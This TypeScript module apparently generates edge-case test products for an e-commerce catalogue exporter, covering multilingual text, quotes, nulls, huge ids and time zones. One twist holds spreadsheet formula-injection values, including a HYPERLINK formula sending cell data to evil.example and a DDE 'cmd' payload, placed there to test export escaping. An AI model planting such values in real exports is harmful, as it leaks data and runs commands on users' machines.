import { idOf } from './plan.ts'
import type { Growing } from './plan.ts'
import { imagesOf } from './ordinary.ts'
import type { CatalogueCustomOption, CatalogueMedia, CatalogueProduct, CatalogueVariant } from './record.ts'
import { at, lateOnClockChange } from './times.ts'
import { NO_CHOICE, optionsOf, variantsOf } from './variants.ts'
import type { OptionDraft } from './variants.ts'

/** Turns the ordinary product at an index into an awkward one. */
type Twist = (plain: CatalogueProduct, growing: Growing) => Partial<CatalogueProduct>

const allVariants = (plain: CatalogueProduct, change: Partial<CatalogueVariant>) =>
  plain.variants.map((variant) => ({ ...variant, ...change }))

const withOptions = (growing: Growing, drafts: readonly OptionDraft[], media: readonly CatalogueMedia[]) => ({
  options: optionsOf(growing, drafts),
  variants: variantsOf(growing, drafts, media),
})

const numbered = (prefix: string, count: number) => Array.from({ length: count }, (_, n) => `${prefix}${n + 1}`)

const colourNamed =
  (name: string, values: string[]): Twist =>
  (plain, growing) =>
    withOptions(
      growing,
      [
        { name: 'Size', values: ['S', 'M'] },
        { name, values },
      ],
      plain.media,
    )

const titled =
  (title: string): Twist =>
  () => ({ title })

const CUSTOM_OPTIONS: CatalogueCustomOption[] = [
  { id: 'co-1', name: 'engraving', label: 'Text, "as written"', type: 'text', required: true, values: [] },
  {
    id: 'co-2',
    name: 'wrap',
    label: 'Gift wrap\nwith ribbon',
    type: 'radio',
    required: false,
    values: [
      { text: 'Yes, please', value: 'yes' },
      { text: 'Không', value: 'no' },
    ],
  },
]

const huge = (part: number) => `9007199254740${993000 + part}`

const twists = {
  vietnamese: (plain, growing) => ({
    title: 'Áo thun nam cổ tròn “Đà Nẵng” LT5',
    vendor: 'Nhà May Sài Gòn',
    tags: ['Hàng mới về', 'áo thun', 'đà nẵng'],
    seoTitle: 'Áo thun nam – giao hàng toàn quốc',
    ...withOptions(
      growing,
      [
        { name: 'Màu', values: ['Đỏ', 'Xanh lá'] },
        { name: 'Kích cỡ', values: ['Nhỏ', 'Vừa'] },
      ],
      plain.media,
    ),
  }),
  cjk: (plain, growing) => ({
    title: '限定版 東京スニーカー 한국어 CTM100',
    vendor: '株式会社みほん',
    tags: ['新着', '한정판'],
    ...withOptions(growing, [{ name: '颜色', values: ['红色', '藍'] }], plain.media),
  }),
  emoji: titled('Family 👨‍👩‍👧‍👦 Mug ☕️ 🏳️‍🌈 👍🏽 TB101'),
  quotes: (plain) => ({
    title: '12" "Signature" Skillet, Levi\'s ‘n’ "K23"',
    seoDescription: 'She said ""yes"", twice',
    variants: allVariants(plain, { sku: 'Q"1",\'2\'' }),
  }),
  lineBreaks: () => ({
    title: 'Two\nLines',
    bodyHtml: '<p>unix\nline</p>\r\n<p>dos\r\nline</p>\r<p>old mac</p>\n\n',
    seoDescription: 'first\r\nsecond',
    tags: ['one', 'two'],
  }),
  leadingZeros: (plain) => ({ title: '007 Card Holder', variants: allVariants(plain, { sku: '00012345', barcode: '0012345678905' }) }),
  formulaEquals: (plain) => ({
    title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    vendor: '=1+1',
    variants: allVariants(plain, { sku: "=cmd|'/c calc'!A0" }),
  }),
  formulaPlus: (plain) => ({ title: '+SUM(1;2)', variants: allVariants(plain, { sku: '+A1' }) }),
  formulaMinus: (plain) => ({ title: '-2+3+cmd', variants: allVariants(plain, { sku: '-A1' }) }),
  formulaAt: (plain) => ({ title: '@SUM(A1:A9)', variants: allVariants(plain, { sku: '@A1' }) }),
  leadingTab: (plain) => ({ title: '\t=1+1', variants: allVariants(plain, { sku: '\tTAB' }) }),
  leadingReturn: (plain) => ({ title: '\r=1+1', variants: allVariants(plain, { sku: ' =1+1' }) }),
  leadingApostrophe: (plain) => ({ title: "'=already quoted", variants: allVariants(plain, { sku: "'0001", barcode: "''" }) }),
  phoneLike: (plain) => ({ title: '+84 28 3822 1234', variants: allVariants(plain, { sku: '+84901234567', barcode: '(028) 3822-1234' }) }),
  negativeNumber: (plain) => ({ title: '-15.50', variants: allVariants(plain, { sku: '-42', barcode: '-0.5', inventoryQuantity: -7 }) }),
  numberLike: (plain) => ({ title: '1E5', variants: allVariants(plain, { sku: '12345678901234567890', barcode: '1.10' }) }),
  nulls: (plain) => ({
    category: null,
    seoTitle: null,
    seoDescription: null,
    publishedAt: null,
    templateSuffix: null,
    tags: [],
    productType: '',
    bodyHtml: '',
    collectionIds: [],
    status: 'DRAFT',
    variants: allVariants(plain, {
      sku: null,
      barcode: null,
      unitCost: null,
      compareAtPrice: null,
      taxCode: null,
      mediaId: null,
      harmonizedSystemCode: null,
      countryCodeOfOrigin: null,
    }),
  }),
  noImages: (plain) => ({ media: [], variants: allVariants(plain, { mediaId: null }) }),
  manyVariants: (plain, growing) => ({
    title: 'Made to Measure DT100',
    ...withOptions(
      growing,
      [
        { name: 'Size', values: numbered('Size ', 10) },
        { name: 'Color', values: numbered('Color ', 6) },
        { name: 'Cut', values: numbered('Cut ', growing.plan.platform === 'shopify' ? 5 : 1) },
      ],
      plain.media,
    ),
  }),
  manyImages: (plain, growing) => ({
    media: imagesOf(growing, plain.title, 265),
    variants: allVariants(plain, { mediaId: idOf(growing.plan.platform, 'media', growing.index, 264) }),
  }),
  manyCollections: (_plain, { collections }) => ({ collectionIds: collections.slice(0, 64).map((collection) => collection.id) }),
  twinA: () => ({ title: 'Twin Lamp', createdAt: Date.UTC(2026, 4, 1), updatedAt: Date.UTC(2026, 5, 1), vendor: 'Acme' }),
  twinB: () => ({ title: 'twin lamp', createdAt: Date.UTC(2026, 4, 1), updatedAt: Date.UTC(2026, 5, 1), vendor: 'ACME' }),
  twinC: () => ({ title: 'Twin Lamp', createdAt: Date.UTC(2026, 4, 1), updatedAt: Date.UTC(2026, 5, 1), vendor: 'Acme' }),
  linkedOptions: (plain, growing) => ({
    ...withOptions(
      growing,
      [
        { name: 'Color', values: ['Red', 'Blue'], linkedMetafield: { namespace: 'shopify', key: 'color-pattern' } },
        { name: 'Material', values: ['Wool'] },
      ],
      plain.media,
    ),
  }),
  colour: colourNamed('Colour', ['Teal', 'Plum']),
  farbe: colourNamed('Farbe', ['Rot', 'Grün']),
  upperColor: colourNamed(' COLOR ', ['Ink', '"Bone"']),
  sellerCodeLast: titled('Poster without frame, TB0'),
  sellerCodeFirst: titled('ctm7 Linen Shirt, LT5'),
  sellerCodeNone: titled('xLT5 LT101 CTM007 K231 AK23 TB-5'),
  sellerCodeGlued: titled('Mug(LT100)[DT5]_TS1'),
  unlisted: () => ({ status: 'UNLISTED', publishedAt: Date.UTC(2026, 2, 1) }),
  archived: () => ({ status: 'ARCHIVED', publishedAt: null }),
  single: (plain, growing) => withOptions(growing, NO_CHOICE, plain.media),
  giftCard: (plain, growing) => ({
    title: 'Gift Card',
    isGiftCard: true,
    options: optionsOf(growing, [{ name: 'Denominations', values: ['$10', '$25'] }]),
    variants: variantsOf(growing, [{ name: 'Denominations', values: ['$10', '$25'] }], plain.media).map((variant) => ({
      ...variant,
      requiresShipping: false,
      taxable: false,
      weight: { value: 0, unit: 'KILOGRAMS' as const },
    })),
  }),
  videoBetween: (plain, growing) => {
    const images = imagesOf(growing, plain.title, 5)
    const media = images.map((image, n) =>
      n === 1
        ? { ...image, kind: 'VIDEO' as const, width: 0, height: 0 }
        : n === 3
          ? { ...image, kind: 'EXTERNAL_VIDEO' as const, width: 0, height: 0 }
          : image,
    )
    return { media, variants: allVariants(plain, { mediaId: images[2]?.id ?? null }) }
  },
  awkwardTags: () => ({
    tags: ["'quoted", '"double"', '12" frame', "Levi's", 'a:b', 'back\\slash', '=1+1', 'best (seller)', 'OR', '東京'].toSorted(),
  }),
  richBody: () => ({
    bodyHtml:
      '<div class="a" style=\'b\'><h2>“Care” &amp; use</h2><table><tr><td>1,5</td><td>2;5</td></tr></table><img src="https://cdn.example.com/x.png" alt=""><!-- note --></div>',
  }),
  lateEvening: (_plain, { plan }) => ({
    createdAt: at('2026-05-31T23:30', plan.timezone),
    updatedAt: at('2026-06-01T00:00', plan.timezone),
  }),
  clockChange: (_plain, { plan }) => ({
    createdAt: lateOnClockChange(plan.timezone),
    updatedAt: lateOnClockChange(plan.timezone) + 3_600_000,
  }),
  longTitle: titled('Very long name '.repeat(17).trim()),
  rightToLeft: titled('قميص قطن أبيض \u200B\u00A0LT7'),
  freeOfCharge: (plain) => ({ variants: allVariants(plain, { price: '0.00', unitCost: '0', compareAtPrice: '0.00' }) }),
  manyTags: (plain) => ({ title: plain.title, tags: numbered('bulk-', 250).toSorted() }),
  untracked: (plain) => ({ variants: allVariants(plain, { tracked: false, inventoryQuantity: 0 }) }),
  heavy: (plain) => ({ variants: allVariants(plain, { weight: { value: 2.5, unit: 'POUNDS' } }) }),
  customOptions: (_plain, { plan }) => ({ customOptions: plan.platform === 'shopbase' ? CUSTOM_OPTIONS : [] }),
} satisfies Record<string, Twist>

export type Ugly = keyof typeof twists

const order = Object.keys(twists).filter((name): name is Ugly => name in twists)

/** The number of awkward products at the start of every catalogue. Smaller catalogues have fewer. */
export const UGLY_COUNT = order.length

/** The index of an awkward product in `Catalogue.products`. */
export function uglyIndex(name: Ugly): number {
  return order.indexOf(name)
}

/** The product at this index: awkward at the first indexes, unchanged otherwise. */
export function twisted(plain: CatalogueProduct, growing: Growing): CatalogueProduct {
  const name = order[growing.index]
  if (name === undefined) return plain
  return { ...plain, handle: `ugly-${name.replaceAll(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)}`, ...twists[name](plain, growing) }
}

/** The last product of a Shopify shop. Its ids have 19 digits and exceed JavaScript's safe integers. */
export function withHugeIds(plain: CatalogueProduct): CatalogueProduct {
  const media = plain.media.map((item, n) => ({ ...item, id: huge(300 + n) }))
  const variants = plain.variants.map((variant, n) => ({
    ...variant,
    id: huge(100 + n),
    inventoryItemId: huge(200 + n),
    mediaId: media[0]?.id ?? null,
  }))
  return { ...plain, id: huge(1), handle: 'ugly-huge-ids', title: 'Nineteen Digits', media, variants }
}
